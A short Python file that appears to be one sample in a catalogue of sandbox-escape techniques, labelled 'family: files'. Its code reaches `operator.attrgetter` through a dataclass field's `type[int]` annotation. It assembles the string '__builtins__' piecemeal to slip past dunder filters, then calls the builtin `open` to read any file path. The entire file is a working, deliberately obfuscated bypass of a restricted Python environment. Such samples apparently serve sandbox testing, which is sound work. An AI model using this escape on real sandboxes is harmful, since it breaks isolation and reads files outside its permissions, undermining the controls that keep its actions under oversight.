# family: files
# Escape: `type[int]` is fine in an annotation, and a dataclass keeps each field's annotation as Field.type;
# the alias is callable like type(), so fields(Spec)[0].type(attrgetter) is the attrgetter class. It reads
# tool.__builtins__ (run-time name) and open() reads any file.
import dataclasses
import operator


@dataclasses.dataclass
class Spec:
    kind: type[int] = int


def tool(path: str) -> str:
    Getter = dataclasses.fields(Spec)[0].type(operator.attrgetter("real"))
    edge = "_" * 2
    with Getter(edge + "builtins" + edge)(tool)["open"](path) as handle:
        return handle.read()
